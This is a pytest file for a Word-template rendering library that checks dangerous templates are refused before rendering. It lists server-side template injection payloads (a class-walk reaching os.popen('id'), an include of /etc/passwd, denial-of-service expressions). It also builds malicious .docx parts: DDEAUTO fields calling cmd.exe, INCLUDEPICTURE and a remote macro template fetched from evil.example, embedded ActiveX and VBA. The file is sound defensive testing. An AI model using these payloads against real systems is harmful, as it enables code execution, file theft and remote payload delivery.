# ruff: noqa: E501 - a table of cases reads best with one case on a line
"""A template is data: whatever tries to be a program, to fetch, or to eat time is refused before the first form."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest
from formkit import (
    Sample,
    add_part,
    check,
    compiled,
    edit,
    errors,
    fill,
    paragraphs,
    rezip,
    tables,
    unzip,
)

from pingyi.errors import RenderError, TemplateError

EXPRESSIONS = {
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "classes by item": "{{ name['__class__'] }}",
    "private name": "{{ _budget }}",
    "private attribute": "{{ name._x }}",
    "globals of a helper": "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "attribute filter": "{{ name|attr('__class__') }}",
    "call": "{{ name.upper() }}",
    "format": "{{ '{0.__class__}'.format(name) }}",
    "format filter": "{{ '%s'|format(name) }}",
    "range": "{% for x in range(1000000000) %}{% endfor %}",
    "power": "{{ 9**9**9 }}",
    "multiplied text": "{{ 'a' * 1000000000 }}",
    "division": "{{ 1 / 0 }}",
    "modulo": "{{ '%1000000000d' % 1 }}",
    "slice": "{{ name[0:1] }}",
    "dictionary": "{{ {'a': 1} }}",
    "set": "{% set x = 1 %}",
    "set block": "{% set x %}a{% endset %}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}",
    "from": "{% from 'x' import y %}",
    "extends": "{% extends 'x' %}",
    "macro": "{% macro m() %}x{% endmacro %}",
    "call block": "{% call name() %}x{% endcall %}",
    "filter block": "{% filter upper %}x{% endfilter %}",
    "block": "{% block b %}x{% endblock %}",
    "with": "{% with x = 1 %}{{ x }}{% endwith %}",
    "autoescape off": "{% autoescape false %}{{ name }}{% endautoescape %}",
    "safe": "{{ name|safe }}",
    "recursive loop": "{% for line in lines recursive %}{{ loop(lines) }}{% endfor %}",
    "raw": "{% raw %}{{ name }}{% endraw %}",
    "do": "{% do lines.append(1) %}",
    "debug": "{% debug %}",
    "lipsum": "{{ lipsum(n=1000) }}",
    "namespace": "{{ namespace(a=1) }}",
    "self": "{{ self }}",
    "loop internals": "{% for x in words %}{{ loop._iterator }}{% endfor %}",
    "loop cycle": "{% for x in words %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "four loops": "{% for a in words %}{% for b in words %}{% for c in words %}{% for d in words %}x"
    + "{% endfor %}" * 4,
    "method as a value": "{{ name.join }}",
    "hidden in default": "{{ post|default(name.__class__) }}",
    "hidden in a condition": "{% if name.__len__() > 3 %}x{% endif %}",
    "hidden in colspan": "{% colspan name.__class__ %}x",
}


@pytest.mark.parametrize("attack", EXPRESSIONS)
def test_expression_is_refused_before_anything_runs(attack: str) -> None:
    template = tables((EXPRESSIONS[attack], "x")) if "colspan" in attack else paragraphs("姓名：" + EXPRESSIONS[attack])
    with pytest.raises(TemplateError) as caught:
        compiled(template)
    found = caught.value.problems
    assert any(problem.column == "姓名" or problem.sheet == "" or "colspan" in attack for problem in found)


def _hidden(xml: str) -> Callable[[], bytes]:
    return lambda: edit(paragraphs("{{ name }}"), "word/document.xml", ("</w:p><w:sectPr", f"{xml}</w:p><w:sectPr"))


def _field(code: str) -> Callable[[], bytes]:
    parts = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code.split("|"))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return _hidden(begin + parts + end)


def _nested_field() -> bytes:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    inner = f"{begin}<w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r>{end}"
    return _hidden(f"{begin}{inner}<w:r><w:instrText> cmd.exe</w:instrText></w:r>{end}")()


def _external(kind: str, address: str, part: str = "word/_rels/document.xml.rels") -> Callable[[], bytes]:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    link = f'<Relationship Id="rIdX" Type="{base}{kind}" Target="{address}" TargetMode="External"/></Relationships>'
    return lambda: edit(paragraphs("{{ name }}"), part, ("</Relationships>", link))


def _inside(kind: str, part: str) -> Callable[[], bytes]:
    return lambda: add_part(paragraphs("{{ name }}"), part, "x", kind, "application/octet-stream")


def _attached_template() -> bytes:
    base = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = (
        f'<Relationships xmlns="{base}"><Relationship Id="rId1" Type="{office}" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return rezip({**unzip(paragraphs("{{ name }}")), "word/_rels/settings.xml.rels": rels.encode()})


PACKAGES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "attribute": ("expression-forbidden", _hidden("<w:r w:x=\"{{ ''.__class__ }}\"><w:t>x</w:t></w:r>")),
    "comment in the xml": ("expression-forbidden", _hidden("<!-- {{ lipsum() }} -->")),
    "DDE field": ("field-forbidden", _field(r"DDEAUTO c:\\windows\\system32\\cmd.exe")),
    "DDE field in pieces": ("field-forbidden", _field(r"DD|EAUTO |c:\\cmd.exe")),
    "simple DDE field": ("field-forbidden", _hidden('<w:fldSimple w:instr="DDE excel x"><w:r><w:t>1</w:t></w:r></w:fldSimple>')),
    "included text": ("field-forbidden", _field("INCLUDETEXT /etc/passwd")),
    "included picture": ("field-forbidden", _field("INCLUDEPICTURE http://evil.example/x.png")),
    "quoted field": ("field-forbidden", _field("QUOTE 68 68 69")),
    "field named by another field": ("field-forbidden", _nested_field),
    "user name": ("field-forbidden", _field("USERNAME")),
    "remote template": ("file-outside", _attached_template),
    "linked picture": ("file-outside", _external("image", "http://evil.example/x.png")),
    "linked object": ("file-outside", _external("oleObject", "file:///c:/x.xlsx")),
    "frame": ("file-outside", _external("frame", "http://evil.example")),
    "embedded object": ("program-inside", _inside("oleObject", "word/embeddings/oleObject1.bin")),
    "embedded file": ("program-inside", _inside("package", "word/embeddings/a.xlsx")),
    "altChunk": ("program-inside", _inside("aFChunk", "word/afchunk.htm")),
    "ActiveX": ("program-inside", _inside("control", "word/activeX/activeX1.bin")),
    "macros": ("program-inside", _inside("vbaProject", "word/vbaProject.bin")),
}  # fmt: skip


@pytest.mark.parametrize("attack", PACKAGES)
def test_part_that_runs_or_fetches_is_refused(attack: str) -> None:
    code, build = PACKAGES[attack]
    with pytest.raises(TemplateError) as caught:
        compiled(build())
    assert code in [problem.code for problem in caught.value.problems]


def test_external_hyperlink_is_a_warning() -> None:
    found = [
        problem for problem in check(_external("hyperlink", "http://example.com")()) if problem.code == "link-outside"
    ]
    assert [problem.severity for problem in found] == ["warning"]


def test_at_least_twenty_one_attacks() -> None:
    assert len(EXPRESSIONS) + len(PACKAGES) >= 21


def test_long_lists_in_nested_loops_are_stopped() -> None:
    template = paragraphs(
        "{% for a in words %}{% for b in words %}{% for c in words %}{% endfor %}{% endfor %}{% endfor %}"
    )
    ready = compiled(template)
    before = time.perf_counter()
    with pytest.raises(RenderError, match="far too long"):
        ready.fill_parts({**Sample().model_dump(), "words": ("x",) * 5000})
    assert time.perf_counter() - before < 20  # it ends; how fast is no matter here


def test_unclosed_tag_in_a_long_document_is_refused_quickly() -> None:
    before = time.perf_counter()
    assert "template-too-large" in [problem.code for problem in errors(paragraphs("{{ name", *["x" * 50] * 2000))]
    assert time.perf_counter() - before < 20  # it ends; how fast is no matter here


def test_many_tags_and_huge_parts_are_refused_quickly() -> None:
    before = time.perf_counter()
    many = edit(paragraphs("X"), "word/document.xml", ("<w:t>X", "<w:t>" + "{{ name " * 100_000))
    assert [problem.code for problem in errors(many)] == ["template-too-large"]
    big = edit(paragraphs("X{{ name }}"), "word/document.xml", ("<w:t>X", "<w:t>" + "x" * 3_000_000))
    assert [problem.code for problem in errors(big)] == ["template-too-large"]
    assert time.perf_counter() - before < 20  # it ends; how fast is no matter here


def test_deep_expression_does_not_break_the_parser() -> None:
    assert [problem.code for problem in errors(paragraphs("{{ " + "(" * 240 + "name" + ")" * 240 + " }}"))] == [
        "tag-syntax"
    ]
    hidden = "{{ " + "(" * 5000 + "name" + ")" * 5000 + " }}"
    template = edit(paragraphs("{{ name }}X"), "word/document.xml", ("<w:body>", f'<w:body w:x="{hidden}">'))
    assert errors(template)


def test_values_are_never_template_text() -> None:
    text = "{{ 7*7 }} {% if x %} {_{ name }_} {# c #} ｛｛ name ｝｝"
    result = fill(
        tables(("姓名", "{{ name }}"), ("{%tr for w in words %}", ""), ("{{ w }}", ""), ("{%tr endfor %}", "")),
        name=text,
        words=(text,),
    )
    document = unzip(result)["word/document.xml"].decode()
    assert document.count(text) == 2
